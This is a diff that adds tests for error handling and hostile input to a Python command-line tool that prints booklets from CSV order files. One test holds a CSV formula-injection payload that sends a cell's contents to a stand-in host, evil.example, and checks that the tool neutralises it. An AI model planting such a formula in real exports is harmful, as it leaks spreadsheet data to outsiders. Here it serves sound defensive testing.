@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import datetime
+import os
 import subprocess
 from collections.abc import Callable
 from pathlib import Path
@@ -12,7 +15,9 @@ from click.testing import CliRunner
 from PIL import Image
 from pypdf import PdfReader
 
-from booklet.print_run import print_booklets
+from booklet.errors import BookletError
+from booklet.paths import print_run_folder
+from booklet.print_run import PrintFile, print_booklets, print_run
 from cli import main
 
 from . import pdfread
@@ -174,3 +179,269 @@ def test_print_colours_are_cmyk(printed: Path) -> None:
     assert len(cmyk) >= 5, "text and rules are painted in CMYK"
     rgb = [args for op, args in ops if op in (b"rg", b"RG")]
     assert all(args == [0, 0, 0] for args in rgb), "RGB only for the crop marks (registration black)"
+
+
+# Hostile input and faults (issue 12)
+
+
+@pytest.fixture
+def fake_print(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Make print runs without rendering: every print file is a few bytes, 8 pages long."""
+    from booklet import print_run
+    from booklet.model import Booklet
+    from booklet.render_pdf import Renderer
+    from booklet.variants import Variant
+
+    def made(booklet: Booklet, variant: Variant, renderer: Renderer, imposed: bool = False) -> PrintFile:
+        spreads = b"%PDF-spreads" if imposed else None
+        return PrintFile(booklet.slug, booklet.meta.code, variant.stem, 8, 0, b"%PDF-print", spreads)
+
+    monkeypatch.setattr(print_run, "print_ready", made)
+
+
+ORDER = "code,variant,quantity,ordered_by\nTST-01,standard,{},Ward 4\n"
+
+
+def order_file(tmp_path: Path, quantity: int = 10, text: str | None = None) -> Path:
+    path = tmp_path / f"orders-{quantity}.csv"
+    path.write_text(ORDER.format(quantity) if text is None else text, encoding="utf-8")
+    return path
+
+
+def test_print_run_folder_numbering(tmp_path: Path) -> None:
+    day = datetime.date(2026, 3, 9)
+    runs = tmp_path / "print-runs"
+    assert print_run_folder(tmp_path, day) == runs / "2026-03-09"
+    (runs / "2026-03-09").mkdir(parents=True)
+    assert print_run_folder(tmp_path, day) == runs / "2026-03-09-2"
+    (runs / "2026-03-09-2").mkdir()
+    (runs / "2026-03-09-3").write_text("a file takes the name too")
+    assert print_run_folder(tmp_path, day) == runs / "2026-03-09-4"
+    assert print_run_folder(tmp_path, datetime.date(2026, 3, 10)) == runs / "2026-03-10"
+
+
+@pytest.mark.usefixtures("fake_print")
+def test_a_second_run_the_same_day_gets_its_own_folder(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    for quantity in (10, 3):
+        result = CliRunner().invoke(
+            main, ["order", str(order_file(tmp_path, quantity)), "--content", str(FIXTURES)]
+        )
+        assert result.exit_code == 0, result.output
+    today = datetime.date.today().isoformat()
+    runs = tmp_path / "out" / "print-runs"
+    assert sorted(p.name for p in runs.iterdir()) == [today, f"{today}-2"]
+    assert (runs / today / "run.csv").read_text().splitlines()[1].startswith("TST-01,standard,10,")
+    assert (runs / f"{today}-2" / "run.csv").read_text().splitlines()[1].startswith("TST-01,standard,3,")
+    assert (runs / today / "summary.txt").read_text().startswith("TST-01 standard: 10 copies")
+    assert (runs / today / "sample-booklet-standard-imposed.pdf").read_bytes() == b"%PDF-spreads"
+
+
+@pytest.mark.usefixtures("fake_print")
+def test_out_folder_that_holds_a_run_is_refused(tmp_path: Path) -> None:
+    run = tmp_path / "run"
+    args = ["order", str(order_file(tmp_path)), "--content", str(FIXTURES), "--out", str(run)]
+    assert CliRunner().invoke(main, args).exit_code == 0
+    before = (run / "run.csv").read_bytes()
+    args[1] = str(order_file(tmp_path, 3))
+    result = CliRunner().invoke(main, args)
+    assert result.exit_code == 1
+    assert f"{run}: already holds a print run (run.csv)" in result.output
+    assert "Traceback" not in result.output
+    assert (run / "run.csv").read_bytes() == before
+
+
+@pytest.mark.usefixtures("fake_print")
+def test_out_that_is_a_file_is_refused(tmp_path: Path) -> None:
+    target = tmp_path / "run.txt"
+    target.write_text("not a folder")
+    result = CliRunner().invoke(
+        main, ["order", str(order_file(tmp_path)), "--content", str(FIXTURES), "--out", str(target)]
+    )
+    assert result.exit_code == 1
+    assert f"{target}: is a file, not a folder" in result.output
+    assert target.read_text() == "not a folder"
+
+
+@pytest.mark.usefixtures("fake_print")
+def test_out_folder_that_exists_without_a_run_is_used(tmp_path: Path) -> None:
+    run = tmp_path / "run"
+    run.mkdir()
+    (run / "notes.txt").write_text("keep me")
+    result = CliRunner().invoke(
+        main, ["order", str(order_file(tmp_path)), "--content", str(FIXTURES), "--out", str(run)]
+    )
+    assert result.exit_code == 0, result.output
+    assert sorted(p.name for p in run.iterdir()) == [
+        "notes.txt",
+        "run.csv",
+        "sample-booklet-standard-imposed.pdf",
+        "sample-booklet-standard-print.pdf",
+        "summary.txt",
+    ]
+
+
+def failing_after_first_write(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
+    """Let the first file be written, then fail every later one as a full disk does."""
+    from booklet import output
+
+    real = output.write_bytes
+    written: list[Path] = []
+
+    def write_bytes(path: Path, data: bytes) -> None:
+        if written:
+            raise OSError(28, "No space left on device")
+        real(path, data)
+        written.append(path)
+
+    monkeypatch.setattr(output, "write_bytes", write_bytes)
+    return written
+
+
+@pytest.mark.usefixtures("fake_print")
+@pytest.mark.parametrize("exists", [False, True])
+def test_a_run_that_cannot_be_written_leaves_nothing_behind(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, exists: bool
+) -> None:
+    orders = order_file(tmp_path)
+    parent = tmp_path / "runs"
+    parent.mkdir()
+    run = parent / "run"
+    if exists:
+        run.mkdir()
+        (run / "notes.txt").write_text("keep me")
+    written = failing_after_first_write(monkeypatch)
+    with pytest.raises(BookletError) as caught:
+        print_run(FIXTURES, orders, run)
+    assert len(written) == 1
+    assert "No space left on device" in str(caught.value)
+    assert str(caught.value).startswith(f"{run}{os.sep}")
+    if exists:
+        assert [p.name for p in run.iterdir()] == ["notes.txt"]
+        assert [p.name for p in parent.iterdir()] == ["run"]
+    else:
+        assert list(parent.iterdir()) == []
+
+
+@pytest.mark.usefixtures("fake_print")
+def test_a_run_that_cannot_be_written_is_a_clear_error(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    failing_after_first_write(monkeypatch)
+    result = CliRunner().invoke(main, ["order", str(order_file(tmp_path)), "--content", str(FIXTURES)])
+    assert result.exit_code == 1
+    assert "No space left on device" in result.output
+    assert "Traceback" not in result.output
+    assert list((tmp_path / "out" / "print-runs").iterdir()) == []
+
+
+@pytest.mark.usefixtures("fake_print")
+def test_a_run_whose_folder_cannot_be_made_is_a_clear_error(tmp_path: Path) -> None:
+    blocker = tmp_path / "file"
+    blocker.write_text("not a folder")
+    result = CliRunner().invoke(
+        main, ["order", str(order_file(tmp_path)), "--content", str(FIXTURES), "--out", str(blocker / "run")]
+    )
+    assert result.exit_code == 1
+    assert f"{blocker / 'run'}: " in result.output
+    assert "Traceback" not in result.output
+
+
+def test_unterminated_quote_in_the_order_file_makes_nothing(tmp_path: Path) -> None:
+    orders = order_file(
+        tmp_path, text=ORDER.format(5) + 'TST-01,standard,5,"Ward 7\nTST-01,large-print,2,Ann\n'
+    )
+    result = CliRunner().invoke(
+        main, ["order", str(orders), "--content", str(FIXTURES), "--out", str(tmp_path / "run")]
+    )
+    assert result.exit_code == 1
+    assert f"{orders}:3: " in result.output
+    assert "never closed" in result.output
+    assert "Fix: " in result.output
+    assert not (tmp_path / "run").exists()
+
+
+@pytest.mark.usefixtures("fake_print")
+def test_run_csv_of_a_hostile_name_is_neutralised(tmp_path: Path) -> None:
+    name = '=HYPERLINK("http://evil.example/?"&A1,"Ward 7")'
+    quoted = name.replace('"', '""')
+    orders = order_file(tmp_path, text=f'code,variant,quantity,ordered_by\nTST-01,standard,2,"{quoted}"\n')
+    result = CliRunner().invoke(
+        main, ["order", str(orders), "--content", str(FIXTURES), "--out", str(tmp_path / "run")]
+    )
+    assert result.exit_code == 0, result.output
+    with (tmp_path / "run" / "run.csv").open(newline="", encoding="utf-8") as handle:
+        assert list(csv.reader(handle))[1][-1] == "'" + name
+
+
+def test_blank_order_form_into_a_missing_folder(tmp_path: Path) -> None:
+    target = tmp_path / "missing" / "dir" / "x.csv"
+    result = CliRunner().invoke(
+        main, ["order", "--template", "--content", str(FIXTURES), "--out", str(target)]
+    )
+    assert result.exit_code == 1
+    assert f"{target}: the folder {target.parent} does not exist" in result.output
+    assert isinstance(result.exception, SystemExit)
+    assert not target.parent.exists()
+
+
+def test_blank_order_form_into_a_file(tmp_path: Path) -> None:
+    target = tmp_path / "form.csv"
+    target.write_text("an older form")
+    result = CliRunner().invoke(
+        main, ["order", "--template", "--content", str(FIXTURES), "--out", str(target)]
+    )
+    assert result.exit_code == 0, result.output
+    assert target.read_text(encoding="utf-8").startswith("code,variant,quantity,ordered_by,title\n")
+    result = CliRunner().invoke(
+        main, ["order", "--template", "--content", str(FIXTURES), "--out", str(tmp_path)]
+    )
+    assert result.exit_code == 1
+    assert f"{tmp_path}: is a folder" in result.output
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"\x89PNG\r\n\x1a\n\x00\x00",  # truncated in its header
+        b"not a picture at all",
+        b"",
+    ],
+)
+def test_unreadable_picture_is_a_warning_not_a_crash(sample_content: Path, data: bytes) -> None:
+    from booklet.print_run import low_resolution
+    from booklet.project import load_booklet
+    from booklet.variants import VARIANTS
+
+    (sample_content / "sample-booklet" / "images" / "broken.png").write_bytes(data)
+    source = sample_content / "sample-booklet" / "booklet.md"
+    picture = "\n\n![A photo of a ward](images/broken.png)\n"
+    source.write_text(source.read_text(encoding="utf-8") + picture, encoding="utf-8")
+    booklet = load_booklet(sample_content, "sample-booklet")
+    warnings = low_resolution(booklet, VARIANTS["standard"])
+    assert len(warnings) == 1
+    assert warnings[0].startswith(
+        f"{sample_content / 'sample-booklet' / 'images' / 'broken.png'}: cannot be read"
+    )
+
+
+@pytest.mark.slow
+def test_print_with_a_broken_picture_reports_it_without_a_traceback(
+    sample_content: Path, tmp_path: Path
+) -> None:
+    picture = sample_content / "sample-booklet" / "images" / "broken.png"
+    picture.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR\x00\x00")
+    source = sample_content / "sample-booklet" / "booklet.md"
+    source.write_text(
+        source.read_text(encoding="utf-8") + "\n\n![A photo of a ward](images/broken.png)\n", encoding="utf-8"
+    )
+    args = ["print", "sample-booklet", "--variant", "standard", "--content", str(sample_content)]
+    result = CliRunner().invoke(main, [*args, "--out", str(tmp_path / "out")])
+    assert result.exit_code == 1
+    assert isinstance(result.exception, SystemExit)
+    assert f"{picture}: cannot be read as a picture" in result.output
+    assert f"{source}: WeasyPrint reported: Failed to load image" in result.output
+    assert f"{source}: {source}" not in result.output
